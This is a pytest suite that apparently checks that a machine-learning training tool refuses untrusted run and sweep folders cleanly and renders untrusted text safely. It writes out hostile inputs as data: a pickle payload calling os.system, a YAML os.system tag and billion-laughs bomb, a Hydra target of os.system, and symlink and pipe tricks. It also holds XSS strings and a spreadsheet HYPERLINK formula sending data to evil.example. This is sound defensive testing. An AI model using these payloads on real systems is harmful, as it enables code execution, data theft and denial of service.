"""A stranger's directory of tricks: nothing outside of it is read or written, nothing runs, a refusal is a line."""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import torch
import yaml

from cifarlab.job.directory import write_job
from cifarlab.reading import UNSEEN
from cifarlab.result import Status
from cifarlab.summary import write

SECRET = "hunter2"
TINY = (
    "data=digits", "limit=100", "width=4", "epochs=1", "batch_size=32", "precision=32", "trainer.progress_bar=false",
    "trainer.accelerator=cpu", "logger=none", "model=tiny_vgg", "figures=[]",
)  # fmt: skip
SCRIPT = f"<script>alert(1)</script><img src=x onerror=alert(1)>{'x'}"
REMOTE = "![p](https://evil.example/p.png) [here](javascript:alert(1)) <https://evil.example> www.evil.example `x` *b*"
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"x")'
TERMINAL = "\x1b[2J\x1b]0;title\x07\x9b31m\r\u202egnp.exe\u2066"


@pytest.fixture
def verb(run_py: Callable[..., Any]) -> Callable[..., Any]:
    """``python VERB.py ARGUMENTS`` in this process and an empty folder."""
    return lambda name, *arguments: run_py(f"{name}.py", *arguments)


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory, tiny_job: Callable[..., Any]) -> Path:
    """A run that has finished and keeps all it has."""
    folder = tmp_path_factory.mktemp("whole") / "run"
    job = tiny_job("model=tiny_vgg", "++figures=[]", "++checkpoints=all")
    write_job(job, folder)
    assert job.execute(folder).status == Status.FINISHED
    return folder


class Place(NamedTuple):
    """A sweep's folder of a stranger's, and what lies around it."""

    sweep: Path
    outside: Path

    def cell(self, name: str, whole: Path) -> Path:
        """A cell of its own, so far like the run."""
        shutil.copytree(whole, self.sweep / name, symlinks=True)
        return self.sweep / name


@pytest.fixture
def place(tmp_path: Path, whole: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Place]:
    """Whatever a test does to the sweep, what lies around it stays as it is."""
    monkeypatch.setenv("SECRET", SECRET)
    outside = tmp_path / "outside"
    shutil.copytree(whole, outside / "run")
    record = json.loads((outside / "run" / "result.json").read_text())
    record["knobs"]["secret"] = record["error"] = SECRET
    (outside / "run" / "result.json").write_text(json.dumps(record))
    (outside / "run" / "history.csv").write_text(f"{SECRET},val/acc\n1,0.5\n")
    (outside / "run" / "environment.json").write_text(json.dumps({"packages": {"torch": SECRET}}))
    (outside / "empty").mkdir()
    before = looked_at(outside)
    yield Place(tmp_path / "multirun" / "s", outside)
    assert looked_at(outside) == before
    for path in (tmp_path / "multirun").rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert SECRET.encode() not in path.read_bytes(), path
    assert {path.name for path in tmp_path.iterdir()} <= {"outside", "multirun", "outputs"}


def looked_at(folder: Path) -> dict[Path, tuple[int, bytes]]:
    return {path: (path.stat().st_mtime_ns, path.read_bytes() if path.is_file() else b"") for path in folder.rglob("*")}


# --- runs -------------------------------------------------------------------------------------------------------------


class Payload:
    """What runs when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.path}",)


def linked(name: str) -> Callable[[Path, Path], None]:
    """A file or folder of the run is a link to that of a run outside."""

    def trick(cell: Path, outside: Path) -> None:
        path = cell / name
        shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
        target = outside / "run" / name
        path.symlink_to(target if target.exists() else outside / "empty", target_is_directory=path.suffix == "")

    return trick


def piped(*names: str) -> Callable[[Path, Path], None]:
    """A file is a pipe, for which a reader would wait."""

    def trick(cell: Path, outside: Path) -> None:
        for name in names:
            (cell / name).unlink(missing_ok=True)
            os.mkfifo(cell / name)

    return trick


def configured(key: str, value: Any) -> Callable[[Path, Path], None]:
    """The config says something else; OUTSIDE in it stands for what lies around."""

    def trick(cell: Path, outside: Path) -> None:
        path = cell / ".hydra" / "config.yaml"
        config = yaml.safe_load(path.read_text())
        *groups, last = key.split(".") if "$" not in key else [key]
        node = config
        for group in groups:
            node = node[group]
        node[last] = json.loads(json.dumps(value).replace("OUTSIDE", str(outside)))
        path.write_text(yaml.safe_dump(config))

    return trick


def written(name: str, content: bytes) -> Callable[[Path, Path], None]:
    """A file is another."""

    def trick(cell: Path, outside: Path) -> None:
        (cell / name).write_bytes(content.replace(b"OUTSIDE", str(outside).encode()))

    return trick


def pickled(cell: Path, outside: Path) -> None:
    for name in ("best.ckpt", "last.ckpt"):
        (cell / "checkpoints" / name).write_bytes(pickle.dumps({"state_dict": Payload(outside / "ran")}))


def pickled_in_a_zip(cell: Path, outside: Path) -> None:
    for name in ("best.ckpt", "last.ckpt"):
        torch.save({"state_dict": {"a": Payload(outside / "ran")}}, cell / "checkpoints" / name)


def of_other_shapes(cell: Path, outside: Path) -> None:
    for name in ("best.ckpt", "last.ckpt"):
        content = torch.load(cell / "checkpoints" / name, weights_only=True)
        content["state_dict"] = {key: torch.zeros(1).expand(10**9) for key in content["state_dict"]}
        torch.save(content, cell / "checkpoints" / name)


def of_no_tensors(cell: Path, outside: Path) -> None:
    for name in ("best.ckpt", "last.ckpt"):
        content = torch.load(cell / "checkpoints" / name, weights_only=True)
        torch.save({**content, "state_dict": {"a": "b"}, "epoch": "x"}, cell / "checkpoints" / name)


TAG = b"model: !!python/object/apply:os.system ['touch OUTSIDE/ran']\n"
BOMB = b"a: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(
    b"%c: &%c [%s]\n" % (name, name, b",".join([b"*%c" % (name - 1)] * 9)) for name in range(ord("b"), ord("k"))
)
# Name of a cell -> what is done to it. None of them can be gone on with, tested, drawn.
TRICKS: dict[str, Callable[[Path, Path], None]] = {
    "config-link": linked(".hydra/config.yaml"),
    "hydra-link": linked(".hydra"),
    "checkpoints-link": linked("checkpoints"),
    "weights-link": linked("checkpoints/best.ckpt"),
    "state-link": linked("checkpoints/last.ckpt"),
    "figures-link": linked("figures"),
    "tensorboard-link": linked("tensorboard"),
    "claim-link": linked(".claim.lock"),
    "evaluation-link": linked("evaluation.json"),
    "pipe-hydra": piped(".hydra/hydra.yaml"),
    "pipe-weights": piped("checkpoints/best.ckpt", "checkpoints/last.ckpt"),
    "pipe-log": piped("job.log"),
    "pickle": pickled,
    "pickle-in-zip": pickled_in_a_zip,
    "shapes": of_other_shapes,
    "no-tensors": of_no_tensors,
    "target": configured("model", {"_target_": "os.system", "command": "touch OUTSIDE/ran"}),
    "target-of-ours": configured(
        "model", {"_target_": "cifarlab.job.source.importlib.import_module", "name": "antigravity"}
    ),
    "allow": configured("allow", ["os", "subprocess"]),
    "resolver": configured("model.activation", "${oc.env:SECRET}"),
    "resolver-of-key": configured("${oc.env:SECRET}", 1),
    "tag": written(".hydra/config.yaml", TAG),
    "tag-of-overrides": written(".hydra/hydra.yaml", TAG),
    "bomb": written(".hydra/config.yaml", BOMB),
    "terminal": configured("model.activation", TERMINAL),
    "nul": configured("data.root", "/x\0y"),
    "huge": configured("width", 10**30),
    "long": configured("model.activation", "x" * 10_000),
    "name-of-timm": configured(
        "model", {"_target_": "cifarlab.models.timm_model.timm_model", "name": "hf-hub:evil/net"}
    ),
    "file-of-timm": configured(
        "model", {"_target_": "cifarlab.models.timm_model.timm_model", "name": "local-dir:OUTSIDE"}
    ),
}
RUNS = {"allow"}  # what the directory allows itself counts for nothing, and the run is an ordinary one


@pytest.mark.parametrize("name", TRICKS)
def test_a_strangers_run_is_refused_in_a_line(name: str, place: Place, whole: Path, verb: Callable[..., Any]) -> None:
    cell = place.cell(name, whole)
    TRICKS[name](cell, place.outside)
    others = (
        ("evaluate", f"run={cell}"),
        ("visualize", f"run={cell}", "figure=filters"),
        ("train", f"continue_from={cell}", "epochs=+1", "logger=none"),
    )
    number = list(TRICKS).index(name)
    first = () if name.endswith("link") and number > 2 else (others[number % 3],)  # all look alike at links
    for command in (*first, ("train", f"resume={cell}")):
        if "resume" in command[1]:
            (cell / "result.json").unlink()  # as if it could be gone on with
        ended = verb(*command)
        assert SECRET not in ended.out + ended.err
        assert "Traceback" not in ended.err
        assert "weights_only" not in ended.err
        assert not UNSEEN.search(ended.out + ended.err)
        if name not in RUNS:
            assert ended.code in (1, 2), (command, ended)
            assert 1 <= len(ended.err.splitlines()) <= 3, ended.err
            assert len(ended.err) < 2000


# --- sweeps -----------------------------------------------------------------------------------------------------------


def record(**changes: Any) -> bytes:
    """A result.json."""
    usual = {"schema": 2, "status": "finished", "key": "a" * 16, "group": "b" * 16, "overrides": [], "seed": 0,
             "knobs": {"lr": 0.1}, "metrics": {"val/acc": 0.5, "test/acc": 0.5}}  # fmt: skip
    return json.dumps(usual | changes).encode()


TEXTS = {"script": SCRIPT, "remote": REMOTE, "formula": FORMULA, "terminal": TERMINAL, "long": "x" * 5000}


@pytest.fixture
def full_of_texts(place: Place, whole: Path) -> Path:
    """A sweep with every text in every field that takes one, beside two runs that are well."""
    cells = []
    for number, name in enumerate(("well-0", "well-1")):
        (place.sweep / name).mkdir(parents=True)
        (place.sweep / name / "result.json").write_bytes(record(seed=number, key=f"{number:016}"))
    for name, text in TEXTS.items():
        short = text[:900]
        for status in ("failed", "finished"):
            cell = place.sweep / f"{name}-{status}"
            cell.mkdir()
            knobs = {"lr": text, short: 1, f"data.{short}": text}
            about = {"selected": {short: text}, "seconds": {short: 1.0}, "overrides": [f"{short}={text}"]}
            facts = dict.fromkeys(("error", "device", "precision", "started"), text)
            written = record(
                status=status,
                key=short,
                group=short,
                knobs=knobs,
                metrics={"val/acc": 0.4, short: 0.5},
                **about,
                **facts,
            )
            (cell / "result.json").write_bytes(written)
            (cell / "history.csv").write_text(f'epoch,val/acc,"{short.replace(chr(34), chr(34) * 2)}"\n0,0.5,1\n')
            (cell / "environment.json").write_text(json.dumps({"packages": {"torch": short}, "git": {"commit": short}}))
            (cell / "evaluation.json").write_text(json.dumps({"key": short, "calibration": {f"val/{short}": 0.5}}))
        cells.append({"name": f"planned-{name}", "key": "c" * 16, "group": short, "overrides": [f"lr={text}"]})
    texts = list(TEXTS.values())
    plan = {"schema": 2, "name": SCRIPT + TERMINAL + REMOTE, "commands": texts, "cells": cells,
            "axes": {"lr": texts, **{text[:900]: texts for text in texts}}, "together": {SCRIPT: ["lr", SCRIPT]},
            "search": {"objective": SCRIPT, "scales": {SCRIPT: "log"}}}  # fmt: skip
    (place.sweep / "sweep.json").write_text(json.dumps(plan))
    return place.sweep


def test_texts_of_a_stranger_are_shown_as_texts(
    full_of_texts: Path, verb: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(write, "draw", lambda *given: 1 / 0)  # pictures take most of the time
    ended = verb("summarize", str(full_of_texts), "table=latex")
    assert ended.code == 0, ended.err
    assert "Traceback" not in ended.err
    assert not UNSEEN.search(ended.out + ended.err)
    summary = full_of_texts / "summary"
    contents = {path.name: path.read_bytes().decode() for path in summary.iterdir() if path.suffix != ".png"}
    for name, content in contents.items():
        assert not UNSEEN.search(content) or name == "index.html", name  # which holds others' scripts
        assert TERMINAL[:6] not in content
    assert "<script>alert" not in contents["index.html"] + contents["summary.md"]
    assert "<img src=x" not in contents["index.html"] + contents["summary.md"]
    assert "javascript:alert" not in contents["index.html"].replace("(javascript:alert(1))", "")  # as text alone
    markdown = contents["summary.md"]
    assert not re.search(r"(?<!\\)\[|https?://|www\.|(?<!\\)`", remove_figures(markdown))
    for name in ("runs.csv", "cells.csv"):
        rows = list(csv.reader(io.StringIO(contents[name])))
        assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))] == []
    assert "\\input" not in contents["table.tex"]


def remove_figures(markdown: str) -> str:
    return re.sub(r"!\[[A-Za-z0-9._+-]+\]\([A-Za-z0-9._+-]+\.png\)", "", re.sub(r"(?m)^    .*$", "", markdown))


def linked_cell(sweep: Path, outside: Path) -> None:
    (sweep / "seed-1").symlink_to(outside / "run")


def named_outside(sweep: Path, outside: Path) -> None:
    plan = json.loads((sweep / "sweep.json").read_text())
    plan["cells"] += [{**plan["cells"][0], "name": name} for name in ("../../outside/run", str(outside / "run"))]
    plan["cells"] += [{**plan["cells"][0], "key": "../../../outside/run/x"}]
    (sweep / "sweep.json").write_text(json.dumps(plan))


def at(name: str, to: str = "empty") -> Callable[[Path, Path], None]:
    """Something in the sweep's folder is a link out of it."""

    def trick(sweep: Path, outside: Path) -> None:
        (sweep / name).unlink(missing_ok=True)
        (sweep / name).symlink_to(outside / to)

    return trick


def pipe_for_a_lock(sweep: Path, outside: Path) -> None:
    (sweep / ".locks").mkdir()
    os.mkfifo(sweep / ".locks" / "in_use")


PLACES: dict[str, Callable[[Path, Path], None]] = {
    "a cell is a link": linked_cell,
    "cells are named outside": named_outside,
    "the summary is a link": at("summary"),
    "the locks are a link": at(".locks"),
    "the ledger is a link": at("sweep.json", "run/result.json"),
    "the study is a link": at("search.db", "run/nothing"),
    "a lock is a pipe": pipe_for_a_lock,
}


UNREAD = [PLACES[name] for name in ("the locks are a link", "the study is a link", "a lock is a pipe")]  # by a summary


@pytest.mark.parametrize("trick", PLACES.values(), ids=PLACES)
def test_a_strangers_sweep_leads_nowhere(
    trick: Callable[[Path, Path], None],
    place: Place,
    whole: Path,
    verb: Callable[..., Any],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(write, "draw", lambda *given: 1 / 0)  # pictures take most of the time
    place.cell("seed-0", whole)
    cells = [{"name": "seed-0", "key": "a" * 16, "group": "b" * 16, "overrides": ["seed=0"], "knobs": {}, "seed": 0}]
    (place.sweep / "sweep.json").write_text(json.dumps({"schema": 2, "cells": cells, "axes": {"seed": ["0"]}}))
    trick(place.sweep, place.outside)
    started = verb("train", "-m", "sweep=s", *TINY, "seed=0,1")
    assert started.code == 2
    assert "is a link" in started.err or "is damaged" in started.err or "neither a file nor a folder" in started.err
    looked = [verb("summarize", str(place.sweep))] if trick not in UNREAD else []
    looked += [verb("evaluate", f"run={place.sweep}")] if trick is linked_cell else []
    assert {ended.code for ended in looked} <= {0, 1}
    for ended in (started, *looked):
        assert "Traceback" not in ended.err
        assert SECRET not in ended.out + ended.err
